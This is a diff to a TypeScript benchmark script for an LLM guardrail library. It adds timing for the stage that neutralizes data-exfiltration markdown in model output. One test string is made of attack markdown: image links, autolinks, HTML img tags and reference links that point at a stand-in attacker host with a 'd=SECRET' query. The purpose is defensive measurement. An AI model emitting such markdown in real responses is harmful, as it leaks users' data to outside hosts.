@@ -3,17 +3,21 @@
 // - whole-text scan and streaming scan throughput (MB/s) for every output rule of a strict policy (secrets + PII +
 //   custom patterns + canaries + exfiltration), on prose, on the labelled corpus, and on adversarial text;
 // - CPU per streamed delta (p50 / p99), at token-sized deltas;
+// - the exfiltration stage's cost per KB (prose, chat markdown, attack markdown), whole and streamed;
 // - time to first token added by the holdback: how many upstream deltas pass before the client sees text,
 //   converted to milliseconds at a given generation speed;
 // - redaction cost per KB of output with the full ruleset (every built-in detector + the adopted gitleaks ruleset +
 //   Tollgate's rules + custom patterns + canary + exfiltration): realistic chat answers (prose, code, config, curl
 //   commands, some with credentials), p50 / p99 over responses, whole response and streamed in 4-character deltas.
 import { parseArgs } from 'node:util';
+import MarkdownIt from 'markdown-it';
 import { negatives, positives } from '../guardrails/eval/generate.ts';
 import { secretCorpus } from '../guardrails/eval/secrets-corpus.ts';
 import { secretRuleset } from '../guardrails/secrets/ruleset.ts';
 import { compileGuard, STRICT_GUARDRAILS } from '../guardrails/guard.ts';
 import { scoreText } from '../guardrails/injection.ts';
+import { exfiltrationPolicy } from '../guardrails/exfiltration.ts';
+import { ExfilStream, neutralizeMarkdown } from '../guardrails/markdown.ts';
 
 const { values } = parseArgs({ options: { mb: { type: 'string', default: '2' }, 'tokens-per-second': { type: 'string', default: '50' } } });
 const targetBytes = Number(values.mb) * 1e6;
@@ -143,3 +147,34 @@ console.log(`\ninjection scorer: ${mbps(prompts.length, performance.now() - t1)}
 t1 = performance.now();
 for (let i = 0; i < 2000; i++) scoreText(`What is the capital of France? (${i})`);
 console.log(`injection scorer: ${((performance.now() - t1) / 2000 * 1000).toFixed(1)} µs per short prompt`);
+
+// exfiltration stage alone (markdown-it under 4 client configs, rewrites, re-check): cost per KB of output
+{
+  const policy = exfiltrationPolicy('neutralize', ['docs.example.com']);
+  if (!policy) throw new Error('unreachable');
+  const MD = 'See [the guide](https://docs.example.com/guide) and run `kubectl get pods`:\n\n```bash\nkubectl apply -f deploy.yaml\n```\n\n'
+    + '- **Requests** are reserved by the scheduler.\n- **Limits** are enforced by the kubelet.\n\n| field | meaning |\n|---|---|\n| cpu | cores |\n\n';
+  const ATTACK = `Here: ![chart](https://evil.example/c.png?d=SECRET) and https://evil.example/x?d=1 <img src="https://evil.example/p"> [r][ref]\n\n[ref]: https://evil.example/r\n\n`;
+  const kb = 256;
+  const unit = (u: string) => u.repeat(Math.ceil((kb * 1024) / u.length)).slice(0, kb * 1024);
+  const client = MarkdownIt({ html: true, linkify: true });
+  console.log(`\nexfiltration stage (${kb} KB per text): µs per KB whole / streamed in 4-char deltas / streamed in 64-char deltas; a client's own markdown-it render for scale`);
+  for (const [name, text] of [['prose', unit(PROSE)], ['chat markdown (links to allowed hosts, code, lists, tables)', unit(MD)], ['attack markdown (every construct to a remote host)', unit(ATTACK)]] as const) {
+    neutralizeMarkdown(text.slice(0, 20_000), policy); // warm up
+    let t0 = performance.now();
+    neutralizeMarkdown(text, policy);
+    const whole = performance.now() - t0;
+    const per: string[] = [];
+    for (const size of [4, 64]) {
+      const s = new ExfilStream(policy);
+      t0 = performance.now();
+      for (let i = 0; i < text.length; i += size) s.push(text.slice(i, i + size));
+      s.end();
+      per.push((((performance.now() - t0) * 1000) / kb).toFixed(0));
+    }
+    t0 = performance.now();
+    client.render(text);
+    const render = performance.now() - t0;
+    console.log(`  ${name.padEnd(62)}${((whole * 1000) / kb).toFixed(0).padStart(8)} / ${per.join(' / ')} µs/KB   (render ${((render * 1000) / kb).toFixed(0)} µs/KB)`);
+  }
+}
